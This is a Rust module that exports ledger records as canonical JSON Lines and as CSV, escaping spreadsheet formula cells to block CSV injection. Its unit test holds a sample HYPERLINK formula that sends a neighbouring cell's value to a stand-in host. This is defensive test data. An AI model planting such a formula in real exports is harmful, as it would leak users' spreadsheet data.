//! Writing records out: JSON Lines that re-import as they were, and CSV of one type for
//! spreadsheets.
//!
//! Each JSON line is the record's canonical form (RFC 8785), so two exports of the same ledger
//! are byte-identical and diff cleanly. CSV has one column per top-level field found in the
//! records of that type (`id` and `type` first, then alphabetical); nested values (lists,
//! objects) are written as their JSON.
//!
//! A CSV is opened in a spreadsheet, and records come from many hands: a cell that begins with
//! `=`, `+`, `-`, `@`, a tab or a carriage return would be read there as a formula (one that
//! fetches a web address with the cells beside it, or runs a command). Such a cell is written
//! with a `'` before it, which spreadsheets read as "text follows" (OWASP's advice on CSV
//! injection); a number such as `-12` or `+1.5` is left as it is. The JSON Lines export, which
//! is what re-imports, is never changed.

use std::collections::BTreeSet;
use std::io::Write;

use habeas_model::canonical::to_canonical;
use serde_json::{Map, Value};

/// Writes one record as one canonical JSON line.
pub fn write_jsonl(out: &mut dyn Write, record: &Map<String, Value>) -> std::io::Result<()> {
    let mut bytes = to_canonical(&Value::Object(record.clone()));
    bytes.push(b'\n');
    out.write_all(&bytes)
}

/// Writes records of one type as CSV with a header.
pub fn write_csv(out: &mut dyn Write, records: &[Map<String, Value>]) -> Result<(), csv::Error> {
    let mut fields: BTreeSet<&str> = BTreeSet::new();
    for record in records {
        fields.extend(record.keys().map(String::as_str).filter(|k| *k != "id" && *k != "type"));
    }
    let header: Vec<&str> = ["id", "type"].into_iter().chain(fields).collect();
    let mut writer = csv::Writer::from_writer(out);
    writer.write_record(&header)?;
    for record in records {
        let row = header.iter().map(|field| match record.get(*field) {
            None => String::new(),
            Some(Value::String(s)) => inert(s.clone()),
            Some(other) => String::from_utf8(to_canonical(other)).unwrap_or_default(),
        });
        writer.write_record(row)?;
    }
    writer.flush()?;
    Ok(())
}

/// The cell as a spreadsheet will take it for text: a `'` before one it would read as a formula.
fn inert(cell: String) -> String {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && cell.parse::<f64>().is_err() { format!("'{cell}") } else { cell }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn jsonl_is_canonical() {
        let mut out = Vec::new();
        let record = json!({"type": "org", "id": "o", "name": "ICE"});
        write_jsonl(&mut out, record.as_object().unwrap()).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "{\"id\":\"o\",\"name\":\"ICE\",\"type\":\"org\"}\n");
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_written_as_text() {
        let record = json!({"type": "source", "id": "s1", "title": "=HYPERLINK(\"http://x/?\"&A1,\"open\")",
            "note": "@SUM(1)", "kind": "-2+3", "url": "+1.5", "language": "-12", "published": "2025"});
        let mut out = Vec::new();
        write_csv(&mut out, &[record.as_object().unwrap().clone()]).unwrap();
        let text = String::from_utf8(out).unwrap();
        let row = text.lines().nth(1).unwrap();
        assert_eq!(
            row,
            "s1,source,'-2+3,-12,'@SUM(1),2025,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\",+1.5"
        );
    }

    #[test]
    fn csv_has_a_column_per_field() {
        let a =
            json!({"type": "place", "id": "p1", "name": "CECOT", "capacity": 40000, "aliases": ["Centro"]});
        let b = json!({"type": "place", "id": "p2", "name": "El Valle, TX"});
        let mut out = Vec::new();
        write_csv(&mut out, &[a.as_object().unwrap().clone(), b.as_object().unwrap().clone()]).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "id,type,aliases,capacity,name\np1,place,\"[\"\"Centro\"\"]\",40000,CECOT\np2,place,,,\"El Valle, TX\"\n"
        );
    }
}
